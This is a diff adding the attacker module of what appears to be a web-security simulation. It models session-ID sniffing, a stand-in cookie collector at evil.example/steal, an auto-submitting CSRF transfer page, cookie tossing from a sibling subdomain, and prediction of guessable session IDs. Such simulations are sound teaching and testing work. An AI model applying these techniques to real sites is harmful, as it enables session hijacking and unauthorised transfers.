@@ -1,1 +1,334 @@
-//! TODO: attacker
+//! The attacker: what they know, the sites they control, and how they turn
+//! what they saw into session IDs to try.
+//!
+//! The attacker has no access to the shop's store. They learn IDs only from
+//! bytes they really receive: plain HTTP read off the victim's network,
+//! `document.cookie` sent by a script they injected, IDs the shop issued to
+//! them. Their requests go through the same server code as anyone's.
+
+use crate::engine::clock::SimTime;
+use crate::engine::http::{cookie_header, form, HttpRequest, HttpResponse, StatusCode};
+use crate::engine::network::{ATTACKER_IP, ATTACKER_USER_AGENT};
+use crate::engine::rng::SimRng;
+use crate::engine::scenario::EvilPage;
+use crate::engine::server::id_generator::{hashed_counter, IdGenerator, SessionId};
+use crate::engine::world::browser::Browser;
+use crate::engine::world::script::Script;
+use serde::{Deserialize, Serialize};
+
+/// The attacker's own site.
+pub const EVIL_HOST: &str = "evil.example";
+/// A sibling subdomain of the shop the attacker controls (a user blog).
+pub const SIBLING_HOST: &str = "blog.shop.example";
+/// Where stolen cookies are sent.
+pub const COLLECTOR_URL: &str = "https://evil.example/steal";
+/// The CSRF page.
+pub const PRIZE_URL: &str = "https://evil.example/prize";
+/// The cookie-tossing page.
+pub const TOSS_URL: &str = "http://blog.shop.example/welcome";
+
+/// How the attacker came to know an ID.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+pub enum LearnedBy {
+    /// Read off the victim's network in a plain HTTP message.
+    Sniffed,
+    /// Sent home by a script injected into the victim's page.
+    StolenByScript,
+    /// Issued to the attacker by the shop.
+    OwnSession,
+    /// Put into the victim's browser by the attacker.
+    Planted,
+    /// Found by guessing.
+    Guessed,
+}
+
+/// A session ID the attacker knows.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct KnownId {
+    pub name: String,
+    pub value: String,
+    pub learned_by: LearnedBy,
+    pub at: SimTime,
+}
+
+/// A link the attacker sent.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct SentLink {
+    pub url: String,
+    /// Whether it carries a script for a reflected-XSS page.
+    pub carries_script: bool,
+}
+
+/// The attacker's state.
+#[derive(Debug, Clone)]
+pub struct Attacker {
+    pub browser: Browser,
+    pub known: Vec<KnownId>,
+    /// Pages published, by URL, with their content.
+    pub pages: Vec<(String, EvilPage)>,
+    /// The last link sent to the victim.
+    pub outbox: Option<SentLink>,
+    pub current_move: String,
+}
+
+impl Default for Attacker {
+    fn default() -> Self {
+        Attacker {
+            browser: Browser::new(ATTACKER_IP, ATTACKER_USER_AGENT),
+            known: Vec::new(),
+            pages: Vec::new(),
+            outbox: None,
+            current_move: String::new(),
+        }
+    }
+}
+
+impl Attacker {
+    /// Remembers IDs, returning the ones that were new.
+    pub fn learn(&mut self, ids: Vec<KnownId>) -> Vec<KnownId> {
+        let mut new = Vec::new();
+        for id in ids {
+            if id.value.is_empty() {
+                continue;
+            }
+            if self
+                .known
+                .iter()
+                .any(|k| k.name == id.name && k.value == id.value && k.learned_by == id.learned_by)
+            {
+                continue;
+            }
+            self.known.push(id.clone());
+            new.push(id);
+        }
+        new
+    }
+
+    /// Whether the attacker relies on `id` being the victim's session:
+    /// learned from the victim, or planted in the victim's browser.
+    pub fn relies_on(&self, id: &SessionId) -> bool {
+        self.known
+            .iter()
+            .any(|k| k.value == id.0 && k.learned_by != LearnedBy::OwnSession)
+    }
+
+    /// The IDs worth replaying, newest first: every one that did not come
+    /// from the attacker's own visits (those would only log in as themselves).
+    pub fn victim_ids(&self) -> Vec<KnownId> {
+        let mut out: Vec<KnownId> = Vec::new();
+        for k in self.known.iter().rev() {
+            if k.learned_by != LearnedBy::OwnSession && !out.iter().any(|o| o.value == k.value) {
+                out.push(k.clone());
+            }
+        }
+        out
+    }
+
+    /// The session IDs the shop issued to the attacker, oldest first.
+    pub fn own_ids(&self) -> Vec<SessionId> {
+        self.known
+            .iter()
+            .filter(|k| k.learned_by == LearnedBy::OwnSession)
+            .map(|k| SessionId(k.value.clone()))
+            .collect()
+    }
+
+    /// Whether `host` is served by the attacker.
+    pub fn serves(host: &str) -> bool {
+        host == EVIL_HOST || host == SIBLING_HOST
+    }
+
+    /// Answers a request to one of the attacker's sites. Returns the
+    /// response and any IDs the request delivered to the collector.
+    pub fn serve(
+        &mut self,
+        req: &HttpRequest,
+        session_cookie: &str,
+        shop_origin: &str,
+        now: SimTime,
+    ) -> (HttpResponse, Vec<KnownId>) {
+        let path = req.url.path();
+        if req.url.host() == EVIL_HOST && path == "/steal" {
+            let query = req.url.query().map(form::decode_pairs).unwrap_or_default();
+            let stolen = form::lookup(&query, "c").unwrap_or("");
+            let ids = session_ids_in_pairs(&cookie_header::parse(stolen), session_cookie)
+                .into_iter()
+                .map(|value| KnownId {
+                    name: session_cookie.to_string(),
+                    value,
+                    learned_by: LearnedBy::StolenByScript,
+                    at: now,
+                })
+                .collect();
+            let r = HttpResponse::new(StatusCode::Ok).with_header("Content-Type", "image/gif");
+            return (r, ids);
+        }
+        let url = req.url.to_string();
+        let page = self
+            .pages
+            .iter()
+            .rev()
+            .find(|(u, _)| *u == url)
+            .map(|(_, p)| p.clone());
+        let response = match page {
+            Some(EvilPage::CsrfTransfer { to, amount }) => HttpResponse::html(format!(
+                "<!doctype html><title>You won!</title><h1>You won a prize!</h1>\
+                 <form id=\"prize\" method=\"post\" action=\"{shop_origin}/transfer\">\
+                 <input type=\"hidden\" name=\"to\" value=\"{to}\">\
+                 <input type=\"hidden\" name=\"amount\" value=\"{amount}\"></form>{}",
+                Script::SubmitForm {
+                    form_id: "prize".into()
+                }
+                .to_html()
+            )),
+            Some(EvilPage::CookieToss { planted_id }) => HttpResponse::html(
+                "<!doctype html><title>Recipes</title><h1>My favourite recipes</h1>".into(),
+            )
+            .with_header(
+                "Set-Cookie",
+                &format!("{session_cookie}={planted_id}; Domain=shop.example; Path=/"),
+            ),
+            None => {
+                let mut r = HttpResponse::new(StatusCode::NotFound);
+                r.body = "<h1>Not found</h1>".into();
+                r
+            }
+        };
+        (response, Vec::new())
+    }
+}
+
+/// The values of `session_cookie` among name/value pairs.
+fn session_ids_in_pairs(pairs: &[(String, String)], session_cookie: &str) -> Vec<String> {
+    pairs
+        .iter()
+        .filter(|(n, v)| n == session_cookie && !v.is_empty())
+        .map(|(_, v)| v.clone())
+        .collect()
+}
+
+/// Session IDs readable in a plain HTTP message: in its `Cookie` header or
+/// its `Set-Cookie` lines.
+pub fn session_ids_in_wire(wire: &str, session_cookie: &str) -> Vec<String> {
+    let mut ids = Vec::new();
+    for line in wire.split("\r\n") {
+        if line.is_empty() {
+            break; // end of headers: the body is not a header
+        }
+        if let Some(value) = strip_header(line, "cookie") {
+            ids.extend(session_ids_in_pairs(&cookie_header::parse(value), session_cookie));
+        } else if let Some(value) = strip_header(line, "set-cookie") {
+            let first = value.split(';').next().unwrap_or("");
+            ids.extend(session_ids_in_pairs(&cookie_header::parse(first), session_cookie));
+        }
+    }
+    ids
+}
+
+fn strip_header<'a>(line: &'a str, name: &str) -> Option<&'a str> {
+    let (n, v) = line.split_once(':')?;
+    n.eq_ignore_ascii_case(name).then_some(v.trim())
+}
+
+/// The attacker's guesses, from the IDs the shop issued them.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Prediction {
+    /// The generator whose output the samples fit, if any.
+    pub scheme: Option<IdGenerator>,
+    pub candidates: Vec<SessionId>,
+}
+
+/// How far the attacker searches for a hashed counter.
+const HASH_SEARCH_LIMIT: u64 = 5_000;
+
+/// Guesses `attempts` IDs. If the samples fit a predictable scheme, the
+/// guesses are the values nearest the newest sample, on both sides (the
+/// victim's session was issued shortly before or after it); otherwise they
+/// are random IDs of the same shape.
+pub fn predict(samples: &[SessionId], attempts: u32, rng: &mut SimRng) -> Prediction {
+    let n = u64::from(attempts);
+    let Some(latest) = samples.last() else {
+        return Prediction {
+            scheme: None,
+            candidates: Vec::new(),
+        };
+    };
+    let own = |c: &SessionId| samples.contains(c);
+    if let Ok(value) = latest.0.parse::<u64>() {
+        let scheme = if value >= 1_000_000_000_000 {
+            IdGenerator::Timestamp
+        } else {
+            IdGenerator::SequentialCounter
+        };
+        // Nearest first, on both sides: s-1, s+1, s-2, s+2...
+        let candidates = (1..=n)
+            .flat_map(|d| [value.checked_sub(d), value.checked_add(d)])
+            .flatten()
+            .map(|v| SessionId(v.to_string()))
+            .filter(|c| !own(c))
+            .take(attempts as usize)
+            .collect();
+        return Prediction {
+            scheme: Some(scheme),
+            candidates,
+        };
+    }
+    if let Some(counter) = (1..=HASH_SEARCH_LIMIT).find(|c| hashed_counter(*c) == latest.0) {
+        let candidates = (1..=n)
+            .flat_map(|d| [counter.checked_sub(d).filter(|c| *c > 0), counter.checked_add(d)])
+            .flatten()
+            .map(|c| SessionId(hashed_counter(c)))
+            .filter(|c| !own(c))
+            .take(attempts as usize)
+            .collect();
+        return Prediction {
+            scheme: Some(IdGenerator::HashedCounter),
+            candidates,
+        };
+    }
+    let bytes = latest.0.len() / 2;
+    let candidates = (0..attempts).map(|_| SessionId(rng.hex(bytes))).collect();
+    Prediction {
+        scheme: None,
+        candidates,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::engine::rng::Seed;
+
+    #[test]
+    fn reads_ids_from_headers_only() {
+        let wire = "GET / HTTP/1.1\r\nHost: shop.example\r\nCookie: theme=dark; sessionid=abc\r\n\r\nsessionid=body";
+        assert_eq!(session_ids_in_wire(wire, "sessionid"), vec!["abc".to_string()]);
+        let resp = "HTTP/1.1 200 OK\r\nSet-Cookie: sessionid=new; Path=/; HttpOnly\r\n\r\n";
+        assert_eq!(session_ids_in_wire(resp, "sessionid"), vec!["new".to_string()]);
+    }
+
+    #[test]
+    fn sequential_samples_predict_their_neighbours() {
+        let mut rng = SimRng::new(Seed(1));
+        let p = predict(&[SessionId("1003".into())], 2, &mut rng);
+        assert_eq!(p.scheme, Some(IdGenerator::SequentialCounter));
+        assert_eq!(p.candidates, vec![SessionId("1002".into()), SessionId("1004".into())]);
+    }
+
+    #[test]
+    fn hashed_counters_are_recognised() {
+        let mut rng = SimRng::new(Seed(1));
+        let p = predict(&[SessionId(hashed_counter(7))], 1, &mut rng);
+        assert_eq!(p.scheme, Some(IdGenerator::HashedCounter));
+        assert_eq!(p.candidates, vec![SessionId(hashed_counter(6))]);
+    }
+
+    #[test]
+    fn random_ids_get_random_guesses() {
+        let mut rng = SimRng::new(Seed(1));
+        let p = predict(&[SessionId("0123456789abcdef0123456789abcdef".into())], 3, &mut rng);
+        assert_eq!(p.scheme, None);
+        assert_eq!(p.candidates.len(), 3);
+        assert_eq!(p.candidates[0].0.len(), 32);
+    }
+}
